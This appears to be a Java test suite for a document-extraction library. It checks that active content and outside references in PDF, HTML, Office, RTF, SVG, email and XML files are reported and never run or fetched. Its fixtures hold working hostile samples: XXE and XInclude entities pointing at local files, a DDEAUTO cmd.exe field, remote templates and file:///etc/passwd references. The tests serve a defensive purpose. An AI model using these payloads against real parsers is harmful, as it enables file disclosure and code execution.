package io.sluice.extractors;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.events.Warning;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What would act or fetch does neither, and the record says that it was there. */
class ActiveContentTest {
  private static final String ODT =
      "<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'><office:body><office:text><text:p>%s</text:p></office:text></office:body></office:document-content>";

  private static Bench bench;

  @BeforeAll
  static void open() throws Exception {
    bench = new Bench(new StillOcr());
  }

  @AfterAll
  static void close() throws Exception {
    bench.close();
  }

  @Test
  void theActionsOfAPdfAreSaid() throws Exception {
    byte[] pdf =
        Papers.pdf((document, page) -> {
          document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
          PDAnnotationLink launch = new PDAnnotationLink();
          launch.setAction(new PDActionLaunch());
          PDAnnotationLink link = new PDAnnotationLink();
          PDActionURI uri = new PDActionURI();
          uri.setURI("http://meadow.example/pay");
          link.setAction(uri);
          page.getAnnotations().add(launch);
          page.getAnnotations().add(link);
        });
    var parsed = bench.parsed(pdf, "a.pdf");
    assertThat(parsed.content().getText()).isEqualTo(Papers.LINE);
    assertThat(Bench.codes(parsed)).containsExactlyInAnyOrder("SCRIPT", "ACTION", "EXTERNAL_LINK");
    assertThat(parsed.document().getWarnings())
        .extracting(Warning::getMessage)
        .anyMatch(message -> message.contains("meadow.example/pay"))
        .anyMatch(message -> message.contains("Launch on page 1"));
  }

  @Test
  void actionsThatFollowThemselvesEnd() throws Exception {
    byte[] pdf =
        Papers.pdf((document, page) -> {
          COSDictionary action = new PDActionJavaScript("app.alert(1)").getCOSObject();
          action.setItem(COSName.getPDFName("Next"), action);
          document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
        });
    assertThat(Bench.codes(bench.parsed(pdf, "a.pdf"))).containsExactly("SCRIPT");
  }

  @Test
  void scriptsAndReferencesOfAPageAreSaid() throws Exception {
    String html =
        """
        <html><head><script>steal()</script><base href="http://evil.example/"></head>
        <body onload="go()">Invoice 4711 <img src="http://evil.example/pixel.gif">
        <a href="javascript:x()">here</a> <a href="https://meadow.example">us</a>
        <iframe src="file:///etc/passwd"></iframe><form action="http://evil.example"></form></body></html>
        """;
    var parsed = bench.parsed(utf8(html), "a.html");
    assertThat(parsed.content().getText()).contains("Invoice 4711").doesNotContain("steal");
    assertThat(Bench.codes(parsed))
        .containsExactlyInAnyOrder("SCRIPT", "ACTION", "EXTERNAL_REFERENCE", "EXTERNAL_LINK");
  }

  @Test
  void macrosTemplatesAndFieldsOfAnOfficeFileAreSaid() throws Exception {
    byte[] docx = Papers.docx("Invoice 4711");
    docx =
        Papers.replacing(
            docx,
            "word/_rels/settings.xml.rels",
            utf8(
                "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                    + "<Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'"
                    + " Target='http://evil.example/t.dotm' TargetMode='External'/></Relationships>"));
    docx =
        Papers.replacing(
            docx,
            "word/document.xml",
            utf8(
                "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p>"
                    + "<w:r><w:t>Invoice 4711</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>"
                    + "</w:p></w:body></w:document>"));
    var parsed = bench.parsed(docx, "a.docx");
    assertThat(parsed.content().getText()).contains("Invoice 4711");
    assertThat(Bench.codes(parsed)).contains("EXTERNAL_REFERENCE", "ACTION");
    Map<String, byte[]> odt = new java.util.LinkedHashMap<>();
    odt.put("mimetype", utf8("application/vnd.oasis.opendocument.text"));
    odt.put("content.xml", utf8(ODT.formatted("Invoice 4711")));
    odt.put("Basic/Standard/Module1.xml", utf8("<script/>"));
    assertThat(Bench.codes(bench.parsed(Papers.zip(odt), "a.odt"))).containsExactly("MACRO");
  }

  @Test
  void referencesOfRtfAndSvgAreSaid() throws Exception {
    String rtf =
        "{\\rtf1\\ansi{\\*\\template http://evil.example/t.dotm}{\\field{\\*\\fldinst INCLUDEPICTURE \"file:///etc/passwd\"}{\\fldrslt here}} Invoice 4711\\par}";
    assertThat(Bench.codes(bench.parsed(utf8(rtf), "a.rtf"))).contains("EXTERNAL_REFERENCE");
    String svg =
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><script>x()</script>"
            + "<image xlink:href='http://evil.example/a.png'/><text>Invoice 4711</text></svg>";
    assertThat(Bench.codes(bench.parsed(utf8(svg), "a.svg")))
        .contains("EXTERNAL_REFERENCE", "SCRIPT");
  }

  @Test
  void aFloodOfWarningsAndMetadataIsCutAndSaidToBe() throws Exception {
    StringBuilder mail = new StringBuilder("From: a@meadow.example\r\nSubject: Flour\r\n");
    for (int i = 0; i < 400; i++) {
      mail.append("X-").append(i).append(": ").append(i).append("\r\n");
    }
    mail.append("Content-Type: text/plain\r\n\r\nInvoice 4711\r\n");
    assertThat(Bench.codes(bench.parsed(utf8(mail.toString()), "a.eml"))).contains("METADATA_CUT");
  }

  /**
   * Each format asks for a file of this machine and for an address of this machine, in each way it
   * knows; neither is read.
   */
  @Test
  void nothingOutsideADocumentIsRead() throws Exception {
    Path secret = Files.writeString(bench.folder.resolve("secret.txt"), "TOPSECRET");
    try (ServerSocket listener =
        new ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
      String address = "http://127.0.0.1:" + listener.getLocalPort() + "/TOPSECRET";
      for (String target : new String[] {secret.toUri().toString(), address}) {
        for (var document : asking(target).entrySet()) {
          ParseOutcome outcome = bench.parse(document.getValue(), document.getKey());
          assertThat(outcome.toString().replace(address, "").replace(secret.toString(), ""))
              .as(document.getKey())
              .doesNotContain("TOPSECRET");
        }
      }
      listener.setSoTimeout(1);
      org.junit.jupiter.api.Assertions.assertThrows(SocketTimeoutException.class, listener::accept);
    }
  }

  private static Map<String, byte[]> asking(String target) throws Exception {
    String doctype =
        "<?xml version='1.0'?><!DOCTYPE x SYSTEM '%s' [<!ENTITY e SYSTEM '%s'><!ENTITY %% p SYSTEM '%s'> %%p;]>"
            .formatted(target, target, target);
    Map<String, byte[]> asking = new TreeMap<>();
    asking.put("a.xml", utf8(doctype + "<x>before &e; after</x>"));
    asking.put(
        "b.xml",
        utf8(
            "<x xmlns:xi='http://www.w3.org/2001/XInclude'>before <xi:include parse='text' href='%s'/></x>"
                .formatted(target)));
    asking.put(
        "c.xml",
        utf8(
            "<?xml-stylesheet type='text/xsl' href='%s'?><x xmlns:s='http://www.w3.org/2001/XMLSchema-instance' s:schemaLocation='u %s'>text</x>"
                .formatted(target, target)));
    asking.put(
        "ubl.xml",
        utf8(
            Papers.UBL
                .replace("?>", "?><!DOCTYPE x [<!ENTITY e SYSTEM '" + target + "'>]>")
                .replace("4711", "&e;")));
    asking.put(
        "a.svg",
        utf8(
            doctype
                + "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='%s'/><text>a &e;</text></svg>"
                    .formatted(target)));
    asking.put(
        "a.xhtml",
        utf8(doctype + "<html xmlns='http://www.w3.org/1999/xhtml'><body>a &e;</body></html>"));
    asking.put(
        "a.html",
        utf8(
            "<html><link rel=stylesheet href='%s'><body>a<img src='%s'><iframe src='%s'></iframe><object data='%s'></object></body></html>"
                .formatted(target, target, target, target)));
    asking.put(
        "a.fodt",
        utf8(
            doctype
                + "<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0' office:mimetype='application/vnd.oasis.opendocument.text'><office:body><office:text>a &e;</office:text></office:body></office:document>"));
    String document =
        doctype
            + "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>a &e;</w:t></w:r></w:p></w:body></w:document>";
    byte[] docx = Papers.docx("harmless");
    asking.put("document.docx", Papers.replacing(docx, "word/document.xml", utf8(document)));
    asking.put(
        "types.docx",
        Papers.replacing(
            docx,
            "[Content_Types].xml",
            utf8(
                doctype
                    + "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>&e;</Types>")));
    asking.put(
        "core.docx",
        Papers.replacing(
            docx,
            "docProps/core.xml",
            utf8(
                doctype
                    + "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties' xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>&e;</dc:title></cp:coreProperties>")));
    asking.put(
        "rels.docx",
        Papers.replacing(
            docx,
            "word/_rels/document.xml.rels",
            utf8(
                "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='%s' TargetMode='External'/><Relationship Id='r2' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='%s' TargetMode='External'/></Relationships>"
                    .formatted(target, target))));
    Map<String, byte[]> odt = new java.util.LinkedHashMap<>();
    odt.put("mimetype", utf8("application/vnd.oasis.opendocument.text"));
    odt.put("content.xml", utf8(doctype + ODT.formatted("a &e;")));
    odt.put("META-INF/manifest.xml", utf8(doctype + "<m>&e;</m>"));
    asking.put("a.odt", Papers.zip(odt));
    asking.put(
        "a.epub",
        Papers.zip(
            Map.of(
                "mimetype", utf8("application/epub+zip"),
                "META-INF/container.xml", utf8(doctype + "<container>&e;</container>"),
                "a.xhtml", utf8(doctype + "<html><body>a &e;</body></html>"))));
    asking.put(
        "a.rtf",
        utf8("{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"%s\"}{\\fldrslt a}}}".formatted(target)));
    asking.put(
        "a.eml",
        utf8(
            "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL; URL=\"%s\"\r\n\r\nContent-Type: text/plain\r\n\r\n"
                .formatted(target)));
    asking.put(
        "a.pdf",
        Papers.pdf((pdf, page) -> {
          COSStream outside = pdf.getDocument().createCOSStream();
          COSDictionary file = new COSDictionary();
          file.setItem(COSName.FS, COSName.getPDFName("URL"));
          file.setItem(COSName.F, new COSString(target));
          outside.setItem(COSName.F, file);
          outside.setItem(COSName.TYPE, COSName.XOBJECT);
          outside.setItem(COSName.SUBTYPE, COSName.FORM);
          page.getResources().getCOSObject().setItem(COSName.XOBJECT, new COSDictionary());
          page.getResources()
              .getCOSObject()
              .getCOSDictionary(COSName.XOBJECT)
              .setItem(COSName.getPDFName("Out"), outside);
          try (var content =
              new org.apache.pdfbox.pdmodel.PDPageContentStream(
                  pdf,
                  page,
                  org.apache.pdfbox.pdmodel.PDPageContentStream.AppendMode.APPEND,
                  false)) {
            content.addComment("then");
          }
        }));
    return asking;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
